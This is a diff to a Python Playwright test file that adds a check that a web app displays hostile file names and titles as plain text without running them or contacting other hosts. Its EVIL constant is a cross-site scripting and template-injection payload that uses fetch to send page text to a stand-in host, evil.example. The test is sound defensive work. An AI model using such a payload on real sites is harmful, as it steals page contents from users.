@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 from typing import Any
@@ -60,6 +61,57 @@ def test_a_study_is_defined_by_form_and_text_and_its_faults_are_said(page: Any) 
     expect(at(page, "study wrong")).to_contain_text("not valid TOML")
     at(page, "study undo").click()
     expect(at(page, "study size")).to_have_text("60 members: 30 draws at each of 2 points")
+
+
+EVIL = (
+    'x" :title="fetch(`http://evil.example/?`+document.body.innerText)&&alert(1)" y=\' D:\\unwucht \\N {{7*7}} `${1}` ]'
+)
+
+
+def test_names_of_files_are_shown_as_they_are_and_send_nothing(page: Any, server: Server) -> None:
+    """The fixture sees to it that no other host is asked."""
+    alerts: list[str] = []
+    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
+    sample(page, "stall_and_release", "Stall and release")
+    at(page, "name").fill(EVIL)
+    expect(page.locator("header")).to_contain_text(EVIL)
+    name, user = "20260101-000000-abcdef", server.folder / "local"
+    about = {"name": name, "made": "", "machine": EVIL}
+    kept = {
+        "runs": about | {"seconds": 1, "outcome": "finished", "tags": [EVIL]},
+        "studies": about | {"kind": "study", "title": EVIL, "machine_file": "machine.toml"},
+        "measured": {"name": name, "file": EVIL, "made": "", "bytes": 1, "kind": "signals", "reading": {"columns": []}},
+    }
+    for folder, note in kept.items():
+        (user / folder / name).mkdir(parents=True)
+        (user / folder / name / "about.json").write_text(json.dumps(note))
+    damaged = user / "runs" / "20260101-000001-abcdef"
+    damaged.mkdir()
+    (damaged / "about.json").write_text("[]")
+    page.goto(server.address)
+    expect(at(page, "name")).to_have_value(EVIL)
+    opened(page)
+    at(page, "study upload").locator("input[type=file]").set_input_files(
+        {"name": "evil.toml", "mimeType": "text/plain", "buffer": f"[vary.{json.dumps(EVIL)}]\nlow = 1".encode()}
+    )
+    expect(at(page, "varies")).to_contain_text(EVIL)
+    page.get_by_label(f"delete {EVIL}", exact=True).first.click()
+    page.get_by_role("button", name="Delete", exact=True).click()
+    expect(page.get_by_label(f"open {EVIL}", exact=True)).to_have_count(0)
+    page.get_by_role("tab", name="Measured").click()
+    page.get_by_label(f"delete {EVIL}", exact=True).click()
+    page.get_by_role("button", name="Delete", exact=True).click()
+    expect(at(page, "no measurement")).to_be_visible()
+    page.get_by_role("tab", name="Archive").click()
+    expect(page.get_by_text("cannot be shown")).to_be_visible()
+    for which in (f"delete the run of {EVIL}", "delete the run of cannot be shown"):
+        page.get_by_label(which, exact=True).click()
+        page.get_by_role("button", name="Delete", exact=True).click()
+        expect(page.get_by_label(which, exact=True)).to_have_count(0)
+    assert alerts == []
+    opened(page)
+    page.get_by_role("button", name="New study").click()
+    expect(at(page, "varies")).not_to_contain_text("evil")
 
 
 def test_the_focus_stays_with_what_was_changed_where_the_form_is_made_anew(page: Any) -> None:
